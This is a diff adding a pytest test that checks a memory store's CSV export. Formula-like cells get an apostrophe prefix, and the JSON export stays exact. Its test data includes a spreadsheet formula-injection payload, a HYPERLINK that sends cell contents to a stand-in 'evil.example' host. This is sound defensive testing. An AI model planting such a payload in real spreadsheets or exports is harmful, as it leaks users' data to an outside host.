@@ -114,6 +114,38 @@ def test_csv_bundle_matches_the_json(populated: Memory, tmp_path: Path) -> None:
         populated.export_csv(tmp_path / "bundle", subject="Alice")
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(memory: Memory, tmp_path: Path) -> None:
+    """A record's text =HYPERLINK("http://evil..."&A1, ...) was written as is: a
+    spreadsheet opening records.csv runs it, and sends the cells it names away."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    record = memory.remember(evil, subject="+Mallory", key="@handle", source="-crm", metadata={"a": 1})
+    memory.remember("\tindented", subject="+Mallory")
+    memory.remember("plain, -not first", subject="+Mallory")
+    memory.record_decision("=1+1 approved", used=[record.id])
+    memory.restrict("+Mallory", reason="@contested", actor="-dpo")
+    memory.export_csv(tmp_path / "bundle", subject="+mallory")
+    with (tmp_path / "bundle" / "records.csv").open(encoding="utf-8", newline="") as handle:
+        rows = {row["id"]: row for row in csv.DictReader(handle)}
+    row = rows[record.id]
+    assert (row["text"], row["subject_original"], row["key"], row["source"]) == (
+        "'" + evil, "'+Mallory", "'@handle", "'-crm"
+    )  # fmt: skip
+    assert sorted(r["text"] for r in rows.values()) == sorted(["'" + evil, "'\tindented", "plain, -not first"])
+    assert json.loads(row["metadata"]) == {"a": 1}
+    with (tmp_path / "bundle" / "restrictions.csv").open(encoding="utf-8", newline="") as handle:
+        [restriction] = list(csv.DictReader(handle))
+    assert (restriction["reason"], restriction["actor"]) == ("'@contested", "'-dpo")
+    with (tmp_path / "bundle" / "decisions.csv").open(encoding="utf-8", newline="") as handle:
+        [decision] = list(csv.DictReader(handle))
+    assert decision["summary"] == "'=1+1 approved"
+    buffer = io.StringIO()
+    memory.export_json(buffer, subject="+mallory")
+    data = json.loads(buffer.getvalue())  # the JSON export stays exact
+    assert sorted(r["text"] for r in data["records"]) == ["\tindented", evil, "plain, -not first"]
+    assert data["restrictions"][0]["reason"] == "@contested"
+    assert data["decisions"][0]["summary"] == "=1+1 approved"
+
+
 def test_csv_tables_have_their_header_when_empty_and_rows_when_not(memory: Memory, tmp_path: Path) -> None:
     memory.remember("Bob likes tea", subject="Bob")
     memory.export_csv(tmp_path / "bob", subject="Bob")
